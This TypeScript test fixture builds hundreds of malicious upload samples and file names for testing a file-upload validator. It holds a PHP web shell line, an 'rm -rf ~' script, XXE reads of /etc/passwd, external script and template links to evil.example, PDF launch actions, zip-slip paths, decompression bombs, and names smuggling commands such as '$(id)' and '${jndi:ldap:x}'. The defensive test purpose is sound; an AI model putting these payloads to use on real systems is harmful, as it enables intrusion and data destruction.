// Files that mean harm, made for tests: several hundred, each with what it tries.
import { docx, odt, pdf, picture, xlsx, zip } from './papers.ts';

export type Hostile = { tries: string; name: string; bytes: Buffer; type?: string };

const script = '<script>document.title="run"</script>';
const pages = [
  `<html><body>${script}</body></html>`,
  `<!DOCTYPE html><html>${script}</html>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='run'">${script}</svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="data:text/xsl,x"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
  `<?php system($_GET["c"]); ?>`,
  `  \n\ufeff <script src="//evil.example/x.js"></script>`,
  `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe>`,
  `MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html\n\n${script}\n--b--`,
  `#!/bin/sh\nrm -rf ~\n`,
  `%!PS\n(%pipe%id) (w) file\n`,
  `{\\rtf1{\\object\\objautlink}}`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
];
const endings = ['pdf', 'png', 'jpg', 'gif', 'webp', 'txt', 'csv', 'docx', 'xlsx', 'odt'];
const barred = [
  'html',
  'htm',
  'xhtml',
  'svg',
  'svgz',
  'xml',
  'js',
  'mjs',
  'mht',
  'mhtml',
  'exe',
  'docm',
  'xlsm',
  'zip',
  'hta',
  'swf',
  'bmp',
  'tif',
  'heic',
  'php',
  'sh',
];

/** A PNG that says it is so large, with nothing in it. */
function vastPng(width: number, height: number): Buffer {
  const head = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
  const rest = Buffer.alloc(17);
  rest.writeUInt32BE(width, 0);
  rest.writeUInt32BE(height, 4);
  rest.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([head, rest, Buffer.from('0000000049454e44ae426082', 'hex')]);
}

async function images(): Promise<Hostile[]> {
  const all: Hostile[] = [];
  for (const format of ['png', 'jpeg', 'gif', 'webp'] as const) {
    const whole = await picture(format, 40, 30);
    const name = format === 'jpeg' ? 'jpg' : format;
    for (const page of pages.slice(0, 8)) {
      all.push({ tries: 'a page behind a picture', name: `a.${name}`, bytes: Buffer.concat([whole, Buffer.from(page)]) });
      all.push({ tries: 'a picture behind a page', name: `a.${name}`, bytes: Buffer.concat([Buffer.from(page), whole]) });
      all.push({
        tries: 'a page in the middle of a picture',
        name: `a.${name}`,
        bytes: Buffer.concat([whole.subarray(0, whole.length / 2), Buffer.from(page), whole.subarray(whole.length / 2)]),
      });
    }
    for (const other of [docx(), pdf(), zip([{ name: 'x.js', data: 'alert(1)' }])])
      all.push({ tries: 'an archive or a document behind a picture', name: `a.${name}`, bytes: Buffer.concat([whole, other]) });
    for (const cut of [4, 20, Math.floor(whole.length / 2)])
      all.push({ tries: 'half a picture', name: `a.${name}`, bytes: whole.subarray(0, cut) });
    for (const ending of barred.slice(0, 12))
      all.push({ tries: 'a picture that is named a page', name: `a.${name}.${ending}`, bytes: whole });
    for (const ending of endings.filter((one) => one !== name))
      all.push({ tries: 'a picture that is named otherwise', name: `a.${ending}`, bytes: whole });
    all.push({ tries: 'a picture sent as a page', name: `a.${name}`, bytes: whole, type: 'text/html' });
  }
  for (const [w, h] of [
    [100_000, 100_000],
    [2 ** 31 - 1, 1],
    [1, 2 ** 31 - 1],
    [65_535, 65_535],
    [8_000, 8_000],
  ] as const)
    all.push({ tries: 'a picture too large to unpack', name: 'a.png', bytes: vastPng(w, h) });
  const gif = await picture('gif', 8, 8);
  for (const begin of ['GIF89a/*', 'GIF89a=0', 'GIF87a/*']) {
    const both = Buffer.from(gif);
    both.write(begin, 0, 'latin1');
    all.push({ tries: 'a picture that is a script', name: 'a.gif', bytes: Buffer.concat([both, Buffer.from('*/=1;alert(1)//')]) });
    all.push({ tries: 'a picture that is a script', name: 'a.gif', bytes: both });
  }
  all.push({
    tries: 'commands for ImageMagick',
    name: 'a.png',
    bytes: Buffer.from('push graphic-context\nimage over 0,0 1,1 "|id"\npop graphic-context'),
  });
  return all;
}

function documents(): Hostile[] {
  const all: Hostile[] = [];
  const whole = pdf();
  for (const page of pages) {
    all.push({ tries: 'a page before a PDF', name: 'a.pdf', bytes: Buffer.concat([Buffer.from(page), whole]) });
    all.push({ tries: 'a page behind a PDF', name: 'a.pdf', bytes: Buffer.concat([whole, Buffer.from(page)]) });
    all.push({
      tries: 'a page in the head of a PDF',
      name: 'a.pdf',
      bytes: Buffer.concat([Buffer.from(`%PDF-1.4 ${page}\n`), whole.subarray(9)]),
    });
  }
  for (const act of ['/S /JavaScript /JS (app.alert(1))', '/S /Launch /F (cmd.exe)', '/S /#4aavaScript /JS (x)', '/Subtype /RichMedia'])
    all.push({
      tries: 'a PDF that acts',
      name: 'a.pdf',
      bytes: Buffer.concat([whole.subarray(0, 9), Buffer.from(`9 0 obj\n<< ${act} >>\nendobj\n`), whole.subarray(9)]),
    });
  all.push({ tries: 'half a PDF', name: 'a.pdf', bytes: whole.subarray(0, 200) });
  all.push({ tries: 'an archive behind a PDF', name: 'a.pdf', bytes: Buffer.concat([whole, zip([{ name: 'a', data: 'b' }])]) });

  const evil: [string, Parameters<typeof zip>[0]][] = [
    ['macros', [{ name: 'word/vbaProject.bin', data: 'x' }]],
    ['macros', [{ name: 'xl/vbaProject.bin', data: 'x' }]],
    ['macros', [{ name: 'Basic/Standard/Module1.xml', data: 'x' }]],
    ['macros', [{ name: 'xl/macrosheets/sheet1.xml', data: 'x' }]],
    ['a control that runs', [{ name: 'word/activeX/activeX1.xml', data: 'x' }]],
    ['an embedded object', [{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]],
    ['a program', [{ name: 'word/media/setup.exe', data: 'MZ' }]],
    ['a page', [{ name: 'word/media/a.svg', data: pages[2] as string }]],
    ['a program without its ending', [{ name: 'word/media/image1.png', data: 'MZ\x90\0' }]],
    ['a document of an old kind', [{ name: 'word/media/x', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]],
    [
      'a template from elsewhere',
      [
        {
          name: 'word/_rels/settings.xml.rels',
          data: '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        },
      ],
    ],
    ['an archive in it', [{ name: 'word/media/a', data: zip([{ name: 'a', data: 'b' }]) }]],
    ['an archive in it', [{ name: 'word/embeddings/a.zip', data: 'x' }]],
    ['a link', [{ name: 'word/link', data: '/etc/passwd', link: true }]],
    ['a password', [{ name: 'word/secret', data: 'x', encrypted: true }]],
    ['ten times ten million zeros', [{ name: 'word/zeros', data: Buffer.alloc(30_000_000) }]],
    ['zeros that say they are few', [{ name: 'word/zeros', data: Buffer.alloc(30_000_000), says: 20 }]],
    ['two thousand entries', Array.from({ length: 2_000 }, (_, i) => ({ name: `word/${i}`, data: '' }))],
    [
      'one name twice',
      [
        { name: 'word/a', data: '1' },
        { name: 'word/a', data: '2' },
      ],
    ],
  ];
  for (const path of ['../../../etc/cron.d/x', '/etc/passwd', 'C:\\Windows\\x', '..\\..\\x', 'word/\0x', 'word/\r\nx', './../x'])
    evil.push(['a path', [{ name: path, data: 'x' }]]);
  for (const [what, entries] of evil) {
    all.push({ tries: `a document with ${what}`, name: 'a.docx', bytes: docx(entries) });
    all.push({ tries: `a table with ${what}`, name: 'a.xlsx', bytes: xlsx(entries) });
    all.push({ tries: `a text with ${what}`, name: 'a.odt', bytes: odt(entries) });
  }
  for (const name of ['a.docx', 'a.xlsx', 'a.odt']) {
    const bare = docx();
    all.push({ tries: 'an archive of anything', name, bytes: zip([{ name: 'readme', data: 'x' }]) });
    all.push({ tries: 'an archive with a page before it', name, bytes: Buffer.concat([Buffer.from(pages[0] as string), bare]) });
    all.push({ tries: 'an archive with something behind it', name, bytes: Buffer.concat([bare, Buffer.from('more')]) });
    all.push({ tries: 'half an archive', name, bytes: bare.subarray(0, bare.length - 30) });
    all.push({
      tries: 'a document with macros',
      name,
      bytes: zip([
        { name: '[Content_Types].xml', data: 'application/vnd.ms-word.document.macroEnabled.main+xml wordprocessingml.document.main+xml' },
        { name: 'word/document.xml', data: '<x/>' },
      ]),
    });
  }
  return all;
}

/** Every hostile file, in no order. */
export async function hostileFiles(): Promise<Hostile[]> {
  const pagesAs = pages.flatMap((page) =>
    [...endings, ...barred].map((ending): Hostile => ({ tries: 'a page or a program', name: `a.${ending}`, bytes: Buffer.from(page) })),
  );
  const binary = endings.flatMap((ending) =>
    [
      Buffer.from('MZ\x90\0\x03'),
      Buffer.from('\x7fELF\x02\x01'),
      Buffer.from('cafebabe00000034', 'hex'),
      Buffer.alloc(64),
      Buffer.from([0xff, 0xfe, 0x3c, 0, 0x68, 0]),
    ].map((bytes): Hostile => ({ tries: 'a program, or bytes of nothing', name: `a.${ending}`, bytes })),
  );
  return [...pagesAs, ...binary, ...(await images()), ...documents()];
}

/** Names that try to lead elsewhere, to end a header, or to pass for another. */
export const hostileNames: string[] = [
  '../../../../etc/passwd.txt',
  '..\\..\\windows\\win.ini.txt',
  '/etc/shadow.txt',
  'C:\\boot.txt',
  'a\0b.txt',
  'a\r\nSet-Cookie: x=1.txt',
  'a"; filename="b.html.txt',
  'invoice\u202etxt.exe.txt',
  '\u2066safe\u2069.txt',
  'a\u200b\u200c\u200db.txt',
  '"><script>alert(1)</script>.txt',
  "'; drop table record_file;--.txt",
  '${jndi:ldap:x}.txt',
  '%2e%2e%2f.txt',
  'a%00.html.txt',
  'con.txt',
  '.htaccess.txt',
  '...txt...txt',
  ' lead and trail .txt ',
  'ünïcödé-日本-😀.txt',
  'a\u0301'.repeat(80) + '.txt',
  '😀'.repeat(120) + '.txt',
  'x'.repeat(300) + '.txt',
  'a;b=c.txt',
  'a,b.txt',
  "a'b.txt",
  'a*b?.txt',
  'a\tb.txt',
  '\ud800a.txt',
  'a\u2028b.txt',
  '=?utf-8?q?a?=.txt',
  "UTF-8''a.txt",
  '-rf.txt',
  '~root.txt',
  '$(id).txt',
  '`id`.txt',
  '|id.txt',
];
